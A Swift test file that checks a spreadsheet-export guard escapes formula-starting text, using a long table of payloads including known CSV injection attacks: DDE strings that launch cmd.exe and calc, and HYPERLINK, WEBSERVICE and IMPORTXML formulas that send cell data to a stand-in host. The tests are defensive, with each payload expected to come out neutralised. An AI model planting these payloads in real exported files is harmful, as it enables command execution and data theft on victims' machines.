import Testing

@testable import Documents

@Suite("Text in a table never becomes a formula")
struct FormulaGuardTests {
    /// What somebody types, and what stands in the cell.
    static let payloads: [(typed: String, written: String)] = [
        // The four that begin a formula.
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("=", "'="),
        ("-", "'-"),
        ("==1", "'==1"),
        ("-5", "'-5"),
        ("+84901234567", "'+84901234567"),
        // Known attacks.
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("=DDE(\"cmd\";\"/C calc\";\"x\")", "'=DDE(\"cmd\";\"/C calc\";\"x\")"),
        ("=HYPERLINK(\"http://x.example/?\"&A1,\"bấm\")", "'=HYPERLINK(\"http://x.example/?\"&A1,\"bấm\")"),
        ("=WEBSERVICE(\"http://x.example\")", "'=WEBSERVICE(\"http://x.example\")"),
        ("=IMPORTXML(CONCAT(\"http://x\"),\"//a\")", "'=IMPORTXML(CONCAT(\"http://x\"),\"//a\")"),
        ("=IMAGE(\"https://x.example/p.png\")", "'=IMAGE(\"https://x.example/p.png\")"),
        ("=rundll32|'URL.dll,OpenURL calc.exe'!A", "'=rundll32|'URL.dll,OpenURL calc.exe'!A"),
        ("=msexcel|'\\..\\..\\cmd.exe /c calc'!A", "'=msexcel|'\\..\\..\\cmd.exe /c calc'!A"),
        // TAB, CR, LF and NUL in front.
        ("\t=1+1", "'\t'=1+1"),
        ("\r=1+1", "'\r'=1+1"),
        ("\n=1+1", "'\n'=1+1"),
        ("\r\n=1+1", "'\r\n'=1+1"),
        ("\0=1+1", "'\u{fffd}=1+1"),
        ("\tabc", "'\tabc"),
        ("\rabc", "'\rabc"),
        ("\nabc", "'\nabc"),
        ("\0abc", "'\u{fffd}abc"),
        ("\t", "'\t"),
        // Full-width and small forms, and the true minus sign.
        ("＝1+1", "'＝1+1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠SUM(A1)", "'＠SUM(A1)"),
        ("﹦1", "'﹦1"),
        ("﹢1", "'﹢1"),
        ("﹣1", "'﹣1"),
        ("﹫a", "'﹫a"),
        ("\u{2212}1", "'\u{2212}1"),
        // Behind blanks and what is not seen.
        (" =1+1", "' =1+1"),
        ("    +1", "'    +1"),
        ("\u{a0}=1", "'\u{a0}=1"),
        ("\u{3000}＝1", "'\u{3000}＝1"),
        ("\u{202f}-1", "'\u{202f}-1"),
        ("\u{200b}=1", "'\u{200b}=1"),
        ("\u{feff}=1", "'\u{feff}=1"),
        ("\u{200e}@a", "'\u{200e}@a"),
        ("\u{ad}=1", "'\u{ad}=1"),
        ("\u{1}=1", "'\u{fffd}=1"),
        ("\u{7f}=1", "'\u{fffd}=1"),
        (" \u{200b} \u{a0}=1", "' \u{200b} \u{a0}=1"),
        (" \t=1", "' \t'=1"),
        // Inside a cell, where the wrong separator would split it.
        ("tốt;=1+1", "tốt;'=1+1"),
        ("tốt,=1+1", "tốt,'=1+1"),
        ("tốt, =1+1", "tốt, '=1+1"),
        ("tốt\t@a", "tốt\t'@a"),
        ("tốt\n=1+1", "tốt\n'=1+1"),
        ("tốt\r\n+1", "tốt\r\n'+1"),
        ("\";=cmd|' /C calc'!A0", "\";'=cmd|' /C calc'!A0"),
        ("x\",\"=1+1", "x\",\"'=1+1"),
        (";;=1", ";;'=1"),
        (",\u{200b}＝1", ",\u{200b}'＝1"),
        // What people mean, unharmed.
        ("", ""),
        ("Cán bộ nhiệt tình", "Cán bộ nhiệt tình"),
        ("Chờ 30-45 phút", "Chờ 30-45 phút"),
        ("lan@example.vn", "lan@example.vn"),
        ("a=b", "a=b"),
        ("Rất tốt, cảm ơn!", "Rất tốt, cảm ơn!"),
        ("Sạch; đẹp", "Sạch; đẹp"),
        ("'đã có dấu", "'đã có dấu"),
        ("1+1=2", "1+1=2"),
        ("–  gạch dài", "–  gạch dài"),
        ("   ", "   "),
        ("👍🏽 tốt", "👍🏽 tốt"),
    ]

    @Test("Each payload is written as text", arguments: payloads)
    func payload(typed: String, written: String) {
        // Scalars, because == on strings holds CR LF and LF apart but not é and e + ´.
        #expect(Array(FormulaGuard.safe(typed).unicodeScalars) == Array(written.unicodeScalars))
    }

    @Test("The table is long enough to mean something, and no safe cell begins as a formula")
    func invariant() {
        #expect(Self.payloads.count >= 60)
        for (typed, _) in Self.payloads {
            let first = FormulaGuard.safe(typed).unicodeScalars.first { !$0.properties.isWhitespace }
            #expect(first.map { !"=+-@＝＋－＠".unicodeScalars.contains($0) } != false)
        }
    }

    @Test("What is safe already stays as it is, so an exported table can be exported again", arguments: payloads)
    func stable(typed: String, written: String) {
        let once = FormulaGuard.safe(typed)
        #expect(FormulaGuard.safe(once).unicodeScalars.elementsEqual(once.unicodeScalars))
    }
}
